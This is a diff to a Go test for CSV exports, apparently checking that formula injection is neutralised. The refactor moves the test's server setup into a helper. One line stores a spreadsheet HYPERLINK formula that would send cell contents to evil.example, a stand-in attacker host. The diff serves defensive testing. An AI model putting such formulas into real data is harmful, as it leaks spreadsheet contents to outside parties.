@@ -38,9 +38,7 @@ func (b *browser) csvOf(path string) (int, http.Header, [][]string) {
 // neutralised; the pages link their exports.
 func TestCSV(t *testing.T) {
 	day := time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)
-	cfg, tr, store := testConfig(t)
-	cfg.Now = func() time.Time { return day.Add(23 * time.Hour) }
-	srv, _ := serve(t, cfg)
+	srv, cfg, tr, store := consoleAt(t, day.Add(23*time.Hour))
 	ctx := context.Background()
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	_, err := tr.Grant(ctx, "root", "CRED", "alice", decimal.NewFromInt(181), "g0", formula)
